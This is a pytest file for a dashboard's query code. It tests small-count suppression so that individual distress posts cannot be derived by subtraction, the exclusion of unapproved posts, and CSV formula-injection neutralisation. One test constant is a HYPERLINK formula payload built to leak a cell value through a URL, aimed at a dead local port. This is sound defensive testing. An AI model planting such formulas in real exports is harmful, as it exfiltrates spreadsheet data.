"""The live themes figures (store/queries.py) count people, hide what subtraction would give away,
count only posts cleared for readers, and their CSV never carries a formula. SQLite and PostgreSQL.

The same as ../shared/repro/themes_live_distress_subtraction.py and themes_csv_formula_injection.py,
on both backends; the scripts themselves run at the end.
"""

from __future__ import annotations

import subprocess
import sys
from datetime import datetime, timedelta, timezone

import pytest
from sqlalchemy import select

from dashboard.views import csv_bytes, csv_cell
from peerfeed.records import Platform, Post
from store import queries
from store.classification import record_classifications
from store.db import transaction
from store.disclosure import hidden_cells
from store.models import Post as Row
from store.models import ReviewItem
from store.posts import upsert_posts
from store.review import approve
from tests.conftest import REPO, SHARED

NOW = datetime.now(timezone.utc)
DAY = (NOW - timedelta(days=2)).replace(hour=12, minute=0, second=0, microsecond=0)
FORMULA = '=HYPERLINK("http://127.0.0.1:9/?leak="&A2,"open")'


def store(engine, levels, authors=None, tags=(), approve_all=True, when=DAY) -> None:
    """One post per level, by `authors[i]` (default: a different person each), classified; held
    posts approved by a moderator when `approve_all`."""
    authors = authors or [f"person{i}" for i in range(len(levels))]
    with transaction(engine) as s:
        first = s.scalar(select(Row.id).order_by(Row.id.desc()).limit(1)) or 0
        posts = [Post(platform=Platform.RSS, platform_id=f"p{first + i}", source="b", url=f"https://b.example/{first + i}",
                      author=authors[i], content_html="<p>x</p>", content_text=f"post {i}", tags=tuple(tags),
                      published_at=when + timedelta(minutes=i)) for i in range(len(levels))]
        upsert_posts(s, posts)
        ids = dict(s.execute(select(Row.platform_id, Row.id)).all())
        record_classifications(s, [(ids[p.platform_id], {"topics": ["carers"], "topic_scores": {}, "distress": lv,
                                                         "distress_score": 0.0, "needs_review": lv > 0, "reasons": [],
                                                         "model_version": "t"}) for p, lv in zip(posts, levels)])
    if approve_all:
        with transaction(engine) as s:
            for item in s.scalars(select(ReviewItem).where(ReviewItem.state == "pending")).all():
                approve(s, item.id, item.version, "mod")


def trend(engine, period="day"):
    with transaction(engine) as s:
        rows = queries.distress_trend(s, NOW - timedelta(days=30), NOW, period=period)
    assert len(rows) == 1
    return rows[0]


def derivable(row) -> list[tuple[int, int]]:
    """(level, count) an attacker gets by subtracting the shown levels from the total."""
    hidden = [lvl for lvl in range(4) if row[f"level_{lvl}"] is None]
    if row["posts"] is None or not hidden:
        return []
    rest = row["posts"] - sum(row[f"level_{lvl}"] for lvl in range(4) if lvl not in hidden)
    return [(hidden[0], rest)] if len(hidden) == 1 else []


@pytest.mark.parametrize("period", ["day", "week"])
def test_a_lone_crisis_post_cannot_be_worked_out_from_the_total(engine, period):
    store(engine, [0] * 5 + [1] * 5 + [2] * 5 + [3])
    row = trend(engine, period)
    assert row["posts"] == 16 and row["level_3"] is None
    assert derivable(row) == []  # a second level is hidden with it
    assert sum(row[f"level_{lvl}"] is None for lvl in range(4)) == 2


def test_one_persons_five_posts_do_not_pass_the_small_count_rule(engine):
    store(engine, [0] * 10 + [1] * 5, authors=[f"p{i}" for i in range(10)] + ["same person"] * 5)
    row = trend(engine)
    assert row["level_1"] is None and row["level_1_share"] is None
    assert derivable(row) == []
    with transaction(engine) as s:
        vols = queries.topic_volumes(s, NOW - timedelta(days=30), NOW)
    assert vols == [{"day": DAY.strftime("%Y-%m-%d"), "topic": "carers", "posts": 15}]  # 11 people


def test_a_day_of_fewer_than_five_people_shows_nothing(engine):
    store(engine, [0] * 8, authors=["a", "b", "c", "d"] * 2)
    row = trend(engine)
    assert row["posts"] is None and all(row[f"level_{lvl}"] is None for lvl in range(4))
    with transaction(engine) as s:
        assert [r["posts"] for r in queries.topic_volumes(s, NOW - timedelta(days=30), NOW)] == [None]
        assert [r["posts"] for r in queries.source_activity(s, NOW - timedelta(days=30), NOW)] == []  # no source row


def test_held_and_hidden_posts_count_in_no_figure(engine):
    store(engine, [0] * 6, tags=("respite",), when=NOW - timedelta(hours=5))
    store(engine, [2] * 6, tags=("held-tag",), approve_all=False, when=NOW - timedelta(hours=4))
    with transaction(engine) as s:
        terms = {t["term"] for t in queries.emerging_terms(s, NOW)}
        assert terms == {"respite"}  # the held posts' tag is not there
        row = queries.distress_trend(s, NOW - timedelta(days=1), NOW)[0]
        assert row["posts"] == 6 and row["level_2"] == 0
        first = s.scalar(select(ReviewItem).where(ReviewItem.state == "approved").order_by(ReviewItem.id))
        from store.review import hide

        hide(s, first.id, first.version, "mod")
    with transaction(engine) as s:
        assert queries.distress_trend(s, NOW - timedelta(days=1), NOW)[0]["posts"] == 5


def test_a_formula_tag_reaches_the_csv_as_text(engine):
    store(engine, [0] * 5, tags=(FORMULA,), when=NOW - timedelta(hours=5))
    with transaction(engine) as s:
        terms = queries.emerging_terms(s, NOW)
    assert [t["term"] for t in terms] == [FORMULA.lower()]
    lines = csv_bytes(terms).decode().splitlines()
    assert lines[1].startswith("\"'=hyperlink(")
    assert not any(line.lstrip('"').startswith(("=", "+", "-", "@")) for line in lines[1:])


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", " =1", "\uff1d1"])
def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(value):
    assert csv_cell(value) == "'" + value
    assert csv_cell(-1) == -1 and csv_cell(0.5) == 0.5 and csv_cell("respite") == "respite"


def test_hidden_cells_protect_the_union_of_people():
    people = {0: {f"a{i}" for i in range(9)}, 1: {f"b{i}" for i in range(6)}, 2: {"c"}, 3: set()}
    assert hidden_cells(people) == {1, 2}  # level 2 alone (1 person) would be total - shown
    overlapping = {0: {f"a{i}" for i in range(9)}, 1: {"x", "y", "z"}, 2: {"x", "y"}, 3: {"w"}}
    assert hidden_cells(overlapping) == {0, 1, 2, 3}  # 1+2+3 hold only 4 different people


@pytest.mark.parametrize("script", ["themes_live_distress_subtraction.py", "themes_csv_formula_injection.py"])
def test_the_themes_reproductions_pass(script):
    path = SHARED / "repro" / script
    if not path.is_file():
        pytest.skip("../shared/repro is not beside this checkout")
    done = subprocess.run([sys.executable, str(path)], cwd=REPO, capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stdout + done.stderr
